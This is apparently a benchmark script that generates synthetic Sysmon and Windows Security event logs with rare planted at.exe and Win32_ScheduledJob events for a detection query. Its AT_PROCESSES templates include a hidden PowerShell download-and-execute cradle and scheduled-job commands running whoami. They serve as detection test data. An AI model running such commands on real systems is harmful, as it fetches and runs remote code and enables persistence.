#!/usr/bin/env python3
"""Generates a synthetic Windows event corpus for throughput benchmarks.

Writes the same stream of Sysmon (1, 3, 11, 13) and Security (4688, 4624, 4672, 4634) events
twice: as NXLog/OTRF flat JSON lines (windows-nxlog.json) and as event XML, one <Event> per
line as Splunk stores XmlWinEventLog (windows-xml.xml). Generation stops once both files hold at
least --size-mb megabytes (10^6 bytes). About one event in 10,000 is at-related (at.exe,
Win32_ScheduledJob through PowerShell or wmic, as Sysmon 1 and Security 4688), placed at random.

A manifest (windows-corpus.json) records the seed, sizes, event counts per kind, and how many
rows the reference query must report under the legacy add-on profile: the at-related Sysmon 1
events only (Security XML is sourcetype XmlWinEventLog:Security, which the query never admits).

Standard library only; deterministic for a given seed and size.
Usage: make-corpus.py [--size-mb 1024] [--out bench/work] [--seed 1053002]
"""

import argparse
import json
import random
import sys
import time
from pathlib import Path

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSMON_GUID = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
SECURITY_GUID = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
XMLNS = "http://schemas.microsoft.com/win/2004/08/events/event"
START = 1777852800.0  # 2026-05-04T00:00:00Z
AT_RATE = 1 / 10000
XML_ESCAPES = str.maketrans(
    {
        "&": "&amp;",
        "<": "&lt;",
        ">": "&gt;",
        '"': "&quot;",
        "'": "&apos;",
        "\r": "&#13;",
        "\n": "&#10;",
    }
)

TOKEN_TEXT = (
    "Token Elevation Type indicates the type of token that was assigned to the new process in "
    "accordance with User Account Control policy.\r\n\r\nType 1 is a full token with no privileges "
    "removed or groups disabled.  A full token is only used if User Account Control is disabled or "
    "if the user is the built-in Administrator account or a service account.\r\n\r\nType 2 is an "
    "elevated token with no privileges removed or groups disabled.  An elevated token is used when "
    "User Account Control is enabled and the user chooses to start the program using Run as "
    "administrator.  An elevated token is also used when an application is configured to always "
    "require administrative privilege or to always require maximum privilege, and the user is a "
    "member of the Administrators group.\r\n\r\nType 3 is a limited token with administrative "
    "privileges removed and administrative groups disabled.  The limited token is used when User "
    "Account Control is enabled, the application does not require administrative privilege, and "
    "the user does not choose to start the program using Run as administrator."
)

# Ordinary process creations: (image, command line template, parent image, parent command line).
# {n}, {h}, {u} are filled per event with a number, a hex string and the user name.
BENIGN_PROCESSES = [
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US '
        "--renderer-client-id={n} --launch-time-ticks={n}{n} --field-trial-handle=1948,i,{h}{h},262144 "
        "/prefetch:1",
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" ',
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility '
        "--utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none "
        "--mojo-platform-channel-handle={n} /prefetch:11",
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" ',
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS",
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\system32\services.exe",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s WpnUserService_{h}",
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\system32\services.exe",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\svchost.exe -k wsappx -p -s AppXSvc",
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\system32\services.exe",
    ),
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r"C:\Windows\System32\userinit.exe",
        r"C:\Windows\system32\userinit.exe",
    ),
    (
        r"C:\Windows\System32\schtasks.exe",
        "schtasks  /query /fo LIST /v",
        r"C:\Windows\System32\cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe" ',
    ),
    (
        r"C:\Windows\System32\schtasks.exe",
        r'"C:\Windows\system32\schtasks.exe" /run /tn "\Microsoft\Windows\WindowsUpdate\Scheduled Start"',
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s UsoSvc",
    ),
    (
        r"C:\Windows\System32\wbem\WMIC.exe",
        "wmic  os get Caption,Version,BuildNumber /value",
        r"C:\Windows\System32\cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe" ',
    ),
    (
        r"C:\Windows\System32\wbem\WMIC.exe",
        "wmic  logicaldisk get name,freespace,size",
        r"C:\Windows\System32\cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe" ',
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        'powershell.exe -NoProfile -Command "Get-Process | Sort-Object CPU -Descending | Select-Object -First {n}"',
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoLogo -NonInteractive '
        r"-ExecutionPolicy Bypass -File C:\ProgramData\Kestrel\inventory\collect.ps1",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        r"C:\Windows\System32\cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe" ',
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        "taskhostw.exe -RegisterDevice -ProtectionStateChanged",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        r"C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDrive.exe",
        '"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /updateInstalled /background',
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
    ),
    (
        r"C:\Windows\System32\gpupdate.exe",
        "gpupdate.exe /target:computer /force",
        r"C:\Windows\System32\cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe" ',
    ),
    (
        r"C:\Windows\System32\backgroundTaskHost.exe",
        '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppX{h}.mca',
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r'"C:\Windows\system32\cmd.exe" /c ver',
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
    ),
]

# At-related process creations: (kind, image, command line template, parent image, parent command).
AT_PROCESSES = [
    (
        "at.exe",
        r"C:\Windows\System32\at.exe",
        "at  {hh}:{mm} /interactive cmd",
        r"C:\Windows\System32\cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe" ',
    ),
    (
        "at.exe",
        r"C:\Windows\System32\at.exe",
        'at.exe {hh}:{mm} /every:M,T "cmd.exe /c whoami"',
        r"C:\Windows\System32\cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe" ',
    ),
    (
        "at.exe",
        r"C:\Windows\System32\at.exe",
        'at {hh}:{mm} powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('
        "'http://10.20.{n}.17/a.ps1')\"",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -NoProfile",
    ),
    (
        "powershell",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        'powershell.exe -c "Invoke-WmiMethod -Class Win32_ScheduledJob -Name Create -ArgumentList '
        "'cmd.exe /c whoami > c:\\windows\\temp\\{h}.txt','********{hh}{mm}00.000000-000'\"",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe",
    ),
    (
        "wmic",
        r"C:\Windows\System32\wbem\WMIC.exe",
        'wmic  path win32_scheduledjob call create "cmd.exe /c {h}.bat","********{hh}{mm}00.000000+000"',
        r"C:\Windows\System32\cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe" ',
    ),
]

SYSMON_1_FIELDS = (
    "RuleName",
    "UtcTime",
    "ProcessGuid",
    "ProcessId",
    "Image",
    "FileVersion",
    "Description",
    "Product",
    "Company",
    "OriginalFileName",
    "CommandLine",
    "CurrentDirectory",
    "User",
    "LogonGuid",
    "LogonId",
    "TerminalSessionId",
    "IntegrityLevel",
    "Hashes",
    "ParentProcessGuid",
    "ParentProcessId",
    "ParentImage",
    "ParentCommandLine",
    "ParentUser",
)


class Corpus:
    """Draws events from templates with a seeded generator and renders them in both formats."""

    def __init__(self, seed):
        self.rng = random.Random(seed)
        rng = self.rng
        self.hosts = [
            "%s-%03d.kestrel.lan"
            % (
                rng.choice(["WS-FIN", "WS-ENG", "WS-OPS", "WS-HR", "SRV-APP", "SRV-DB", "SRV-FS"]),
                i,
            )
            for i in range(240)
        ]
        self.host_guid = {h: "%08x" % rng.getrandbits(32) for h in self.hosts}
        first = [
            "a",
            "b",
            "c",
            "d",
            "e",
            "f",
            "g",
            "h",
            "j",
            "k",
            "l",
            "m",
            "n",
            "p",
            "r",
            "s",
            "t",
        ]
        last = [
            "okafor",
            "lindqvist",
            "reyes",
            "nakamura",
            "schulz",
            "moreau",
            "haddad",
            "kowalski",
            "silva",
            "novak",
            "oconnor",
            "ivanova",
            "tanaka",
            "dubois",
            "rossi",
            "meyer",
        ]
        self.users = ["%s.%s" % (rng.choice(first), rng.choice(last)) for _ in range(320)]
        self.sid = {
            u: "S-1-5-21-2781350942-1380267155-3904711732-%d" % (1100 + i)
            for i, u in enumerate(self.users)
        }
        self.hashes = {}
        self.clock = START
        self.record = {SYSMON: 4_200_000, "Security": 91_000_000}
        self.counts = {}

    # -- small draws ---------------------------------------------------------------------------

    def guid(self, host):
        r = self.rng.getrandbits(64)
        return "{%s-%04x-%04x-%04x-%012x}" % (
            self.host_guid[host],
            r & 0xFFFF,
            (r >> 16) & 0xFFFF,
            (r >> 32) & 0xFFFF,
            (r >> 48) << 20,
        )

    def hash_of(self, image):
        value = self.hashes.get(image)
        if value is None:
            r = self.rng
            value = "MD5=%032X,SHA256=%064X,IMPHASH=%032X" % (
                r.getrandbits(128),
                r.getrandbits(256),
                r.getrandbits(128),
            )
            self.hashes[image] = value
        return value

    def fill(self, template, user):
        r = self.rng
        return template.format(
            n=r.randint(2, 250),
            h="%x" % r.getrandbits(40),
            u=user,
            hh="%02d" % r.randint(0, 23),
            mm="%02d" % r.randint(0, 59),
        )

    def tick(self):
        self.clock += self.rng.expovariate(50.0)  # about 50 events a second across the fleet
        whole = int(self.clock)
        frac = self.clock - whole
        tm = time.gmtime(whole)
        base = "%04d-%02d-%02dT%02d:%02d:%02d" % tm[:6]
        return base, "%07d" % int(frac * 1e7), "%03d" % int(frac * 1e3)

    # -- events --------------------------------------------------------------------------------

    def next_event(self):
        """Returns (channel, event id, kind, system dict, ordered data list, message)."""
        r = self.rng.random()
        if r < AT_RATE:
            return self.process(True, self.rng.random() < 0.5)
        if r < 0.30:
            return self.process(False, True)
        if r < 0.50:
            return self.process(False, False)
        if r < 0.62:
            return self.network()
        if r < 0.74:
            return self.file_create()
        if r < 0.84:
            return self.registry()
        return self.logon()

    def process(self, at_related, sysmon):
        rng = self.rng
        host = rng.choice(self.hosts)
        user = rng.choice(self.users)
        if at_related:
            kind, image, template, parent, parent_cmd = rng.choice(AT_PROCESSES)
        else:
            kind = "benign"
            image, template, parent, parent_cmd = rng.choice(BENIGN_PROCESSES)
        image = image.replace("{u}", user)
        command = self.fill(template, user)
        pid, ppid = rng.randint(800, 30000), rng.randint(600, 30000)
        logon = rng.randint(0x100000, 0xFFFFFFF)
        when, frac7, frac3 = self.tick()
        if sysmon:
            name = image.rsplit("\\", 1)[-1]
            if "Chrome" in image:
                version, product, company = (
                    "131.0.6778.%d" % rng.randint(80, 205),
                    "Google Chrome",
                    "Google LLC",
                )
            else:
                version = "10.0.19041.%d (WinBuild.160101.0800)" % rng.randint(1, 4500)
                product, company = "Microsoft® Windows® Operating System", "Microsoft Corporation"
            values = (
                "-",
                when.replace("T", " ") + "." + frac3,
                self.guid(host),
                str(pid),
                image,
                version,
                name,
                product,
                company,
                name,
                command,
                "C:\\Users\\%s\\" % user,
                "KESTREL\\" + user,
                self.guid(host),
                "0x%x" % logon,
                "1",
                rng.choice(["Medium", "High"]),
                self.hash_of(image),
                self.guid(host),
                str(ppid),
                parent,
                parent_cmd,
                "KESTREL\\" + user,
            )
            data = list(zip(SYSMON_1_FIELDS, values))
            msg = "Process Create:\r\n" + "\r\n".join("%s: %s" % kv for kv in data)
            return self.finish(SYSMON, 1, 5, 1, host, when, frac7, data, msg, kind, "sysmon-1")
        data = [
            ("SubjectUserSid", self.sid[user]),
            ("SubjectUserName", user),
            ("SubjectDomainName", "KESTREL"),
            ("SubjectLogonId", "0x%x" % logon),
            ("NewProcessId", "0x%x" % pid),
            ("NewProcessName", image),
            ("TokenElevationType", rng.choice(["%%1936", "%%1937", "%%1938"])),
            ("ProcessId", "0x%x" % ppid),
            ("CommandLine", command),
            ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", "-"),
            ("TargetDomainName", "-"),
            ("TargetLogonId", "0x0"),
            ("ParentProcessName", parent),
            ("MandatoryLabel", rng.choice(["S-1-16-8192", "S-1-16-12288"])),
        ]
        d = dict(data)
        msg = (
            "A new process has been created.\r\n\r\nCreator Subject:\r\n\tSecurity ID:\t\t%s\r\n"
            "\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\tKESTREL\r\n\tLogon ID:\t\t%s\r\n\r\n"
            "Target Subject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n"
            "\tAccount Domain:\t\t-\r\n\tLogon ID:\t\t0x0\r\n\r\nProcess Information:\r\n"
            "\tNew Process ID:\t\t%s\r\n\tNew Process Name:\t%s\r\n\tToken Elevation Type:\t%s\r\n"
            "\tMandatory Label:\t\t%s\r\n\tCreator Process ID:\t%s\r\n\tCreator Process Name:\t%s\r\n"
            "\tProcess Command Line:\t%s\r\n\r\n%s"
            % (
                d["SubjectUserSid"],
                user,
                d["SubjectLogonId"],
                d["NewProcessId"],
                image,
                d["TokenElevationType"],
                d["MandatoryLabel"],
                d["ProcessId"],
                parent,
                command,
                TOKEN_TEXT,
            )
        )
        return self.finish(
            "Security", 4688, 2, 13312, host, when, frac7, data, msg, kind, "security-4688"
        )

    def network(self):
        rng = self.rng
        host = rng.choice(self.hosts)
        user = rng.choice(self.users)
        image, port = rng.choice(
            [
                (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "443"),
                (r"C:\Windows\System32\svchost.exe", "443"),
                (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "443"),
                (r"C:\Windows\System32\lsass.exe", "389"),
            ]
        )
        when, frac7, frac3 = self.tick()
        data = [
            ("RuleName", "-"),
            ("UtcTime", when.replace("T", " ") + "." + frac3),
            ("ProcessGuid", self.guid(host)),
            ("ProcessId", str(rng.randint(600, 30000))),
            ("Image", image),
            ("User", "KESTREL\\" + user),
            ("Protocol", "tcp"),
            ("Initiated", "true"),
            ("SourceIsIpv6", "false"),
            ("SourceIp", "10.20.%d.%d" % (rng.randint(0, 15), rng.randint(2, 250))),
            ("SourceHostname", host),
            ("SourcePort", str(rng.randint(49152, 65535))),
            ("SourcePortName", "-"),
            ("DestinationIsIpv6", "false"),
            (
                "DestinationIp",
                "%d.%d.%d.%d"
                % (
                    rng.choice([13, 20, 52, 142, 172]),
                    rng.randint(0, 255),
                    rng.randint(0, 255),
                    rng.randint(1, 254),
                ),
            ),
            ("DestinationHostname", "-"),
            ("DestinationPort", port),
            ("DestinationPortName", "https" if port == "443" else "ldap"),
        ]
        msg = "Network connection detected:\r\n" + "\r\n".join("%s: %s" % kv for kv in data)
        return self.finish(SYSMON, 3, 5, 3, host, when, frac7, data, msg, "benign", "sysmon-3")

    def file_create(self):
        rng = self.rng
        host = rng.choice(self.hosts)
        user = rng.choice(self.users)
        image, target = rng.choice(
            [
                (
                    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                    "C:\\Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_%06x",
                ),
                (r"C:\Windows\System32\svchost.exe", "C:\\Windows\\Prefetch\\%s-%08X.pf"),
                (
                    r"C:\Windows\explorer.exe",
                    "C:\\Users\\%s\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\%x.lnk",
                ),
            ]
        )
        if "Users" in target:
            target = target % (user, rng.getrandbits(24))
        else:
            target = target % (
                rng.choice(["CHROME.EXE", "SVCHOST.EXE", "MS-TEAMS.EXE"]),
                rng.getrandbits(32),
            )
        when, frac7, frac3 = self.tick()
        stamp = when.replace("T", " ") + "." + frac3
        data = [
            ("RuleName", "-"),
            ("UtcTime", stamp),
            ("ProcessGuid", self.guid(host)),
            ("ProcessId", str(rng.randint(600, 30000))),
            ("Image", image),
            ("TargetFilename", target),
            ("CreationUtcTime", stamp),
            ("User", "KESTREL\\" + user),
        ]
        msg = "File created:\r\n" + "\r\n".join("%s: %s" % kv for kv in data)
        return self.finish(SYSMON, 11, 2, 11, host, when, frac7, data, msg, "benign", "sysmon-11")

    def registry(self):
        rng = self.rng
        host = rng.choice(self.hosts)
        when, frac7, frac3 = self.tick()
        key = rng.choice(
            [
                r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\%s\Device\HarddiskVolume3\Windows\System32\notepad.exe",
                r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\%s",
                r"HKU\%s\Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\Count\HRZR_PGYFRFFVBA",
            ]
        )
        data = [
            ("RuleName", "-"),
            ("EventType", "SetValue"),
            ("UtcTime", when.replace("T", " ") + "." + frac3),
            ("ProcessGuid", self.guid(host)),
            ("ProcessId", str(rng.randint(600, 30000))),
            ("Image", r"C:\Windows\system32\svchost.exe"),
            ("TargetObject", key % self.sid[rng.choice(self.users)]),
            ("Details", "QWORD (0x%08x-0x%08x)" % (rng.getrandbits(32), rng.getrandbits(32))),
            ("User", "NT AUTHORITY\\SYSTEM"),
        ]
        msg = "Registry value set:\r\n" + "\r\n".join("%s: %s" % kv for kv in data)
        return self.finish(SYSMON, 13, 2, 13, host, when, frac7, data, msg, "benign", "sysmon-13")

    def logon(self):
        rng = self.rng
        host = rng.choice(self.hosts)
        user = rng.choice(self.users)
        when, frac7, _ = self.tick()
        logon = "0x%x" % rng.randint(0x100000, 0xFFFFFFF)
        pick = rng.random()
        if pick < 0.45:
            data = [
                ("SubjectUserSid", "S-1-0-0"),
                ("SubjectUserName", "-"),
                ("SubjectDomainName", "-"),
                ("SubjectLogonId", "0x0"),
                ("TargetUserSid", self.sid[user]),
                ("TargetUserName", user),
                ("TargetDomainName", "KESTREL"),
                ("TargetLogonId", logon),
                ("LogonType", "3"),
                ("LogonProcessName", "Kerberos"),
                ("AuthenticationPackageName", "Kerberos"),
                ("WorkstationName", "-"),
                ("LogonGuid", self.guid(host)),
                ("TransmittedServices", "-"),
                ("LmPackageName", "-"),
                ("KeyLength", "0"),
                ("ProcessId", "0x0"),
                ("ProcessName", "-"),
                ("IpAddress", "10.20.%d.%d" % (rng.randint(0, 15), rng.randint(2, 250))),
                ("IpPort", str(rng.randint(49152, 65535))),
                ("ImpersonationLevel", "%%1833"),
                ("RestrictedAdminMode", "-"),
                ("TargetOutboundUserName", "-"),
                ("TargetOutboundDomainName", "-"),
                ("VirtualAccount", "%%1843"),
                ("TargetLinkedLogonId", "0x0"),
                ("ElevatedToken", "%%1842"),
            ]
            msg = (
                "An account was successfully logged on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n"
                "\tAccount Name:\t\t-\r\n\tAccount Domain:\t\t-\r\n\tLogon ID:\t\t0x0\r\n\r\n"
                "Logon Information:\r\n\tLogon Type:\t\t3\r\n\r\nNew Logon:\r\n\tSecurity ID:\t\t%s\r\n"
                "\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\tKESTREL\r\n\tLogon ID:\t\t%s\r\n"
                % (self.sid[user], user, logon)
            )
            return self.finish(
                "Security", 4624, 2, 12544, host, when, frac7, data, msg, "benign", "security-4624"
            )
        if pick < 0.75:
            data = [
                ("SubjectUserSid", self.sid[user]),
                ("SubjectUserName", user),
                ("SubjectDomainName", "KESTREL"),
                ("SubjectLogonId", logon),
                (
                    "PrivilegeList",
                    "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\t"
                    "SeRestorePrivilege\r\n\t\t\tSeDebugPrivilege",
                ),
            ]
            msg = (
                "Special privileges assigned to new logon.\r\n\r\nSubject:\r\n\tSecurity ID:\t\t%s\r\n"
                "\tAccount Name:\t\t%s\r\n\tAccount Domain:\t\tKESTREL\r\n\tLogon ID:\t\t%s\r\n\r\n"
                "Privileges:\t\tSeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\t"
                "SeRestorePrivilege\r\n\t\t\tSeDebugPrivilege" % (self.sid[user], user, logon)
            )
            return self.finish(
                "Security", 4672, 0, 12548, host, when, frac7, data, msg, "benign", "security-4672"
            )
        data = [
            ("TargetUserSid", self.sid[user]),
            ("TargetUserName", user),
            ("TargetDomainName", "KESTREL"),
            ("TargetLogonId", logon),
            ("LogonType", "3"),
        ]
        msg = (
            "An account was logged off.\r\n\r\nSubject:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n"
            "\tAccount Domain:\t\tKESTREL\r\n\tLogon ID:\t\t%s\r\n\r\nLogon Type:\t\t\t3\r\n"
            % (self.sid[user], user, logon)
        )
        return self.finish(
            "Security", 4634, 0, 12545, host, when, frac7, data, msg, "benign", "security-4634"
        )

    def finish(self, channel, eid, version, task, host, when, frac7, data, msg, kind, shape):
        self.record[channel] += 1
        key = shape if kind == "benign" else "at-related %s %s" % (shape, kind)
        self.counts[key] = self.counts.get(key, 0) + 1
        return channel, eid, version, task, host, when, frac7, data, msg

    # -- renderers -----------------------------------------------------------------------------

    def render(self, event):
        channel, eid, version, task, host, when, frac7, data, msg = event
        record = self.record[channel]
        sysmon = channel == SYSMON
        pid, tid = (
            (3172, self.rng.randint(3000, 9000)) if sysmon else (4, self.rng.randint(100, 9000))
        )
        keywords = "0x8000000000000000" if sysmon else "0x8020000000000000"
        obj = {
            "SourceName": "Microsoft-Windows-Sysmon"
            if sysmon
            else "Microsoft-Windows-Security-Auditing",
            "ProviderGuid": (SYSMON_GUID if sysmon else SECURITY_GUID).lower(),
            "Level": "4" if sysmon else "0",
            "Keywords": keywords,
            "Channel": channel,
            "Hostname": host,
            "TimeCreated": when + "." + frac7[:3] + "Z",
            "@timestamp": when + "." + frac7[:3] + "Z",
            "EventID": eid,
            "RecordNumber": record,
            "ProcessID": pid,
            "ThreadID": tid,
            "Message": msg,
            "Task": str(task),
        }
        obj.update(data)
        json_line = json.dumps(obj, ensure_ascii=False, separators=(",", ":")) + "\n"
        security = "<Security UserID='S-1-5-18'/>" if sysmon else "<Security/>"
        xml_line = (
            "<Event xmlns='%s'><System><Provider Name='%s' Guid='%s'/><EventID>%d</EventID>"
            "<Version>%d</Version><Level>%s</Level><Task>%d</Task><Opcode>0</Opcode><Keywords>%s</Keywords>"
            "<TimeCreated SystemTime='%s.%sZ'/><EventRecordID>%d</EventRecordID><Correlation/>"
            "<Execution ProcessID='%d' ThreadID='%d'/><Channel>%s</Channel><Computer>%s</Computer>%s"
            "</System><EventData>%s</EventData></Event>\n"
            % (
                XMLNS,
                obj["SourceName"],
                SYSMON_GUID if sysmon else SECURITY_GUID,
                eid,
                version,
                obj["Level"],
                task,
                keywords,
                when,
                frac7,
                record,
                pid,
                tid,
                channel,
                host,
                security,
                "".join(
                    "<Data Name='%s'>%s</Data>" % (k, v.translate(XML_ESCAPES)) for k, v in data
                ),
            )
        )
        return json_line.encode("utf-8"), xml_line.encode("utf-8")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument(
        "--size-mb", type=int, default=1024, help="minimum size of each file, in MB"
    )
    parser.add_argument("--out", default=str(Path(__file__).resolve().parent.parent / "work"))
    parser.add_argument("--seed", type=int, default=1053002)
    args = parser.parse_args()

    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    target = args.size_mb * 1_000_000
    corpus = Corpus(args.seed)
    json_path, xml_path = out / "windows-nxlog.json", out / "windows-xml.xml"
    started = time.monotonic()
    json_bytes = xml_bytes = events = 0
    with open(json_path, "wb", buffering=1 << 20) as json_out, open(
        xml_path, "wb", buffering=1 << 20
    ) as xml_out:
        while json_bytes < target or xml_bytes < target:
            json_line, xml_line = corpus.render(corpus.next_event())
            json_out.write(json_line)
            xml_out.write(xml_line)
            json_bytes += len(json_line)
            xml_bytes += len(xml_line)
            events += 1
            if events % 200_000 == 0:
                rate = (json_bytes + xml_bytes) / 1e6 / (time.monotonic() - started)
                print(
                    "make-corpus: %d events, %.0f MB JSON, %.0f MB XML, %.1f MB/s"
                    % (events, json_bytes / 1e6, xml_bytes / 1e6, rate),
                    file=sys.stderr,
                )

    at_sysmon = sum(v for k, v in corpus.counts.items() if k.startswith("at-related sysmon-1"))
    manifest = {
        "seed": args.seed,
        "events": events,
        "files": {json_path.name: json_bytes, xml_path.name: xml_bytes},
        "counts": dict(sorted(corpus.counts.items())),
        "at_related": sum(v for k, v in corpus.counts.items() if k.startswith("at-related")),
        "reference_query_rows_legacy_profile": at_sysmon,
        "first_time": "2026-05-04T00:00:00Z",
        "seconds": round(time.monotonic() - started, 1),
    }
    (out / "windows-corpus.json").write_text(
        json.dumps(manifest, indent=2) + "\n", encoding="utf-8"
    )
    print(
        "make-corpus: %d events in %.1f s -> %s, %s"
        % (events, manifest["seconds"], json_path, xml_path),
        file=sys.stderr,
    )


if __name__ == "__main__":
    main()
